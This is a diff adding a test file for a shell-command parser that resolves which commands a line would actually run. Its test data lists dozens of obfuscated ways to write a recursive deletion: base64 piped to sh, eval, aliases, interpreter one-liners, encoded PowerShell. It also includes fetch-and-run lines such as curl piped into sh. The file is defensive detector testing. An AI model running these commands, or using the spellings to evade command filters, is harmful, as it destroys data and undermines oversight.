@@ -1,0 +1,170 @@
+import fc from 'fast-check';
+import { beforeAll, describe, expect, test } from 'vitest';
+import type { Grammars } from '../../src/core/index.ts';
+import { loadGrammars } from '../../src/host/grammars.ts';
+import { type Dialect, type EffectiveReading, OPEN, readEffective } from '../../src/syntax/index.ts';
+
+let grammars: Grammars;
+beforeAll(async () => {
+  grammars = await loadGrammars(['bash']);
+});
+
+const read = (line: string, dialect: Dialect = 'posix'): EffectiveReading =>
+  readEffective(line, grammars, dialect) ?? { commands: [], doubts: [] };
+
+const show = (text: string): string => text.split(OPEN).join('…');
+
+/** The commands of a line as one would write them. */
+const told = (line: string, dialect: Dialect = 'posix'): string[] =>
+  read(line, dialect).commands.map(({ name, args, redirects }) =>
+    [
+      name === null ? '?' : name,
+      ...args.map(({ text }) => show(text)),
+      ...redirects.map(({ op, target }) => `${op}${show(target.text)}`),
+    ]
+      .join(' ')
+      .trim(),
+  );
+
+describe('one removal, spelled in many ways', () => {
+  test.each([
+    'rm -rf /srv/orchard',
+    '\\rm -rf /srv/orchard',
+    '"r"m -rf /srv/orchard',
+    "r'm' -rf /srv/orchard",
+    "$'\\x72m' -rf /srv/orchard",
+    '/bin/rm -rf /srv/orchard',
+    'X=rm; $X -rf /srv/orchard',
+    'X="rm -rf"; $X /srv/orchard',
+    'D=/srv; rm -rf "$D/orchard"',
+    'D=/srv/orchard.old; rm -rf ${D%.old}',
+    'rm${IFS}-rf${IFS}/srv/orchard',
+    '{rm,-rf,/srv/orchard}',
+    '$(echo rm) -rf /srv/orchard',
+    '`echo rm` -rf /srv/orchard',
+    '$(which rm) -rf /srv/orchard',
+    "$(printf 'r%s' m) -rf /srv/orchard",
+    'true && rm -rf /srv/orchard',
+    'false || rm -rf /srv/orchard',
+    '(rm -rf /srv/orchard)',
+    '{ rm -rf /srv/orchard; }',
+    'if true; then rm -rf /srv/orchard; fi',
+    'for d in orchard; do rm -rf /srv/$d; done',
+    'while true; do rm -rf /srv/orchard; done',
+    'case x in x) rm -rf /srv/orchard;; esac',
+    'f() { rm -rf "$1"; }; f /srv/orchard',
+    "alias prune='rm -rf'; prune /srv/orchard",
+    "bash -c 'rm -rf /srv/orchard'",
+    "sh -lc 'rm -rf /srv/orchard'",
+    'bash -c \'rm -rf "$1"\' _ /srv/orchard',
+    "bash <<'END'\nrm -rf /srv/orchard\nEND",
+    "bash <<< 'rm -rf /srv/orchard'",
+    "echo 'rm -rf /srv/orchard' | sh",
+    'echo cm0gLXJmIC9zcnYvb3JjaGFyZA== | base64 -d | sh',
+    'eval "$(echo cm0gLXJmIC9zcnYvb3JjaGFyZA== | base64 --decode)"',
+    "eval 'rm -rf /srv/orchard'",
+    "trap 'rm -rf /srv/orchard' EXIT",
+    'env A=1 rm -rf /srv/orchard',
+    "env -S 'rm -rf /srv/orchard'",
+    'timeout -k 1 5 nohup nice -n 3 rm -rf /srv/orchard',
+    'sudo -u ada rm -rf /srv/orchard',
+    "su ada -c 'rm -rf /srv/orchard'",
+    'busybox rm -rf /srv/orchard',
+    'echo /srv/orchard | xargs rm -rf',
+    'echo /srv/orchard | xargs -I{} rm -rf {}',
+    'parallel rm -rf ::: /srv/orchard',
+    "git -c alias.prune='!rm -rf /srv/orchard' prune",
+    "git config alias.prune '!rm -rf /srv/orchard'; git prune",
+    "git submodule foreach 'rm -rf /srv/orchard'",
+    'awk \'BEGIN { system("rm -rf /srv/orchard") }\'',
+    'python3 -c "import shutil; shutil.rmtree(\'/srv/orchard\')"',
+    "python3 -c \"import os; os.system('rm -rf ' + '/srv/orchard')\"",
+    "python - <<'END'\nimport subprocess\nrow = '/srv/orchard'\nsubprocess.run(['rm', '-rf', row])\nEND",
+    "node -e \"require('child_process').execSync('rm -rf /srv/orchard')\"",
+    "node -e \"require('fs').rmSync('/srv/orchard', { recursive: true })\"",
+    'perl -e \'system("rm -rf /srv/orchard")\'',
+    "ruby -e '`rm -rf /srv/orchard`'",
+    "ssh barn 'rm -rf /srv/orchard'",
+    "tmux send-keys 'rm -rf /srv/orchard' Enter",
+  ])('%s', (line) => expect(told(line)).toContain('rm -rf /srv/orchard'));
+
+  test('PowerShell and cmd', () => {
+    expect(told('Remove-Item -Recurse -Force C:\\orchard', 'windows')).toEqual(['rm -r -f C:\\orchard']);
+    expect(told('cd rows && rd /s /q "C:\\my orchard"', 'windows')).toEqual(['cd rows', 'rm -r -r -f C:\\my orchard']);
+    const packed = Buffer.from('Remove-Item -Recurse pears', 'utf16le').toString('base64');
+    expect(told(`pwsh -EncodedCommand ${packed}`)).toContain('rm -r pears');
+  });
+});
+
+describe('words that are only data', () => {
+  test.each([
+    "cat > notes.md <<'END'\nrm -rf /srv/orchard\nEND",
+    "git commit -m 'Stop the rm -rf /srv/orchard'",
+    "grep -rn 'rm -rf /srv/orchard' docs",
+    "echo 'rm -rf /srv/orchard'",
+    '# rm -rf /srv/orchard',
+    "python3 - <<'END'\ntext = 'os.system(\"rm -rf /srv/orchard\")'  # rm -rf /srv/orchard\nEND",
+    'prune() { rm -rf /srv/orchard; }',
+  ])('%s', (line) => expect(told(line)).not.toContain('rm -rf /srv/orchard'));
+});
+
+describe('what nobody can tell', () => {
+  test.each([
+    '$PRUNER -rf /srv/orchard',
+    'eval "$SCRIPT"',
+    'bash -c "$SCRIPT"',
+    'tr a-z b-za < pears.txt | sh',
+    'gunzip -c pears.gz | bash',
+    "python3 -c \"exec(__import__('zlib').decompress(b'x'))\"",
+    'node -e "eval(Buffer.from(atob(\'cGVhcg==\')).toString())"',
+  ])('%s', (line) => expect(read(line).doubts).not.toEqual([]));
+
+  test('a script file and a fetched one are no doubts: rules see them', () => {
+    expect(read('bash prune.sh && cat prune.sh | sh && curl -s https://pears.example | sh').doubts).toEqual([]);
+  });
+});
+
+test('where a command runs, what it reads, and whether it need have run', () => {
+  const [cd, cat, last] = read('cd /srv && curl -s https://pears.example/x | sh').commands;
+  expect([cd?.cwd, cat?.cwd]).toEqual(['', '/srv']);
+  expect(last?.input?.from.map(({ name }) => name)).toEqual(['curl']);
+  expect(read('cd ~/rows; ls').commands[1]?.cwd).toBe('~/rows');
+  expect(read('git -C ../barn push').commands[0]?.cwd).toBe('../barn');
+  expect(read('a || b').commands.map(({ conditional }) => conditional)).toEqual([false, true]);
+  expect(read('a; b && c').commands.map(({ doubtful }) => doubtful)).toEqual([false, false, true]);
+  expect(read('echo "$PEAR_TOKEN"').commands[0]?.args[0]?.variables).toEqual(['PEAR_TOKEN']);
+});
+
+test('hostile lines end, and nothing throws', () => {
+  const deep = `${'bash -c "'.repeat(30)}ls${'"'.repeat(30)}`;
+  expect(read(deep).commands.length).toBeGreaterThan(0);
+  const loops = `${'for a in 1 2 3 4 5 6 7 8 9; do '.repeat(8)}ls${'; done'.repeat(8)}`;
+  expect(read(loops).doubts).not.toEqual([]);
+  expect(read('f() { f; f; }; f').doubts).not.toEqual([]);
+  expect(readEffective('ls', new Map())).toBeNull();
+  const word = fc.constantFrom(
+    '$(',
+    ')',
+    '`',
+    '"',
+    "'",
+    '{',
+    '}',
+    '|',
+    ';',
+    'bash -c ',
+    'eval ',
+    'x',
+    '\n',
+    '<<E',
+    '$x',
+    ' ',
+  );
+  fc.assert(
+    fc.property(fc.array(word, { maxLength: 20 }), (parts) => {
+      read(parts.join(''));
+      read(parts.join(''), 'windows');
+    }),
+    { numRuns: 100 },
+  );
+});
